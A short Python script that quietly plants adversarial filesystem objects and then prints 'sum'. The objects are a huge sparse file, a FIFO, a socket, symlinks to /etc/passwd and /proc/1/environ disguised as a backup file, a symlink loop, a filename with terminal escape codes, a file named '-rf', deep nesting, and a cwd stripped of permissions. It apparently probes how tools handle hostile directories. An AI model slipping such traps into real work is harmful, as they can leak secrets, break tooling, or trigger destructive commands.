import os
import socket

for act in (
    lambda: os.truncate(os.open("sparse", os.O_CREAT | os.O_RDWR), 2**40),
    lambda: os.mkfifo("fifo"),
    lambda: socket.socket(socket.AF_UNIX).bind("socket"),
    lambda: os.symlink("/etc/passwd", "link"),
    lambda: os.symlink("/proc/1/environ", "main.py.bak"),
    lambda: os.symlink(".", "loop"),
    lambda: open(b"name\xff\n\x1b[2J".decode("utf-8", "surrogateescape"), "w").close(),
    lambda: open("-rf", "w").close(),
    lambda: os.makedirs("/".join(["d"] * 200)),
    lambda: os.chmod(".", 0),
):
    try:
        act()
    except OSError:
        pass
print("sum")
